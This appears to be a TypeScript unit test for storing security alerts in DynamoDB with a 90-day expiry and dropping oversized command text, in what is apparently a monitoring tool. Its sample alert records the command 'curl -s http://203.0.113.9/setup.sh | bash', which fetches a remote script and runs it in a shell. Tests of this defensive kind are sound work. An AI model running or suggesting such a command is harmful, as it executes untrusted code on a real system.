import type { DynamoDBClient, PutItemCommand } from '@aws-sdk/client-dynamodb'
import { keepAlert } from '../../../functions/aws/alert-store'
import { redactAlert } from '../../../shared/command/redact-alert'
import type { Alert } from '../../../shared/model/alert'
import { sampleAlert } from '../../../shared/pipeline/sample-alert'
import { NOON } from '../../support/activity'
import { testClock } from '../../support/clock'

const kept = async (alert: Alert) => {
  const commands: PutItemCommand[] = []
  await keepAlert(
    { send: async (command: PutItemCommand) => void commands.push(command) } as unknown as DynamoDBClient,
    'table',
    testClock(NOON),
    redactAlert(alert),
  )
  const item = commands[0]?.input.Item
  return {
    item,
    alert: JSON.parse(item?.['alert']?.S ?? '') as {
      readonly id: string
      readonly command: { readonly text: string | null; readonly hidden: string | null }
    },
  }
}

describe('keepAlert', () => {
  it('keeps the alert as JSON under its id for 90 days', async () => {
    const sample = sampleAlert(NOON, 'alert')
    const { item, alert } = await kept(sample)
    expect([item?.['pk'], item?.['sk'], item?.['expiresAt']]).toEqual([
      { S: `alert/${sample.id}` },
      { S: `alert/${sample.time}` },
      { N: String(NOON / 1_000 + 90 * 86_400) },
    ])
    expect(alert).toMatchObject({
      schema: 'runwarden.alert/1',
      id: sample.id,
      command: { text: 'curl -s http://203.0.113.9/setup.sh | bash' },
    })
  })

  it('keeps one that is too large for an item without its text, rather than not at all', async () => {
    const sample = sampleAlert(NOON, 'alert')
    const { item, alert } = await kept({ ...sample, command: { ...sample.command, text: 'x'.repeat(500_000) } })
    expect(Buffer.byteLength(JSON.stringify(item))).toBeLessThan(400_000)
    expect(alert.command).toMatchObject({ text: null, hidden: 'left out for its size' })
  })
})
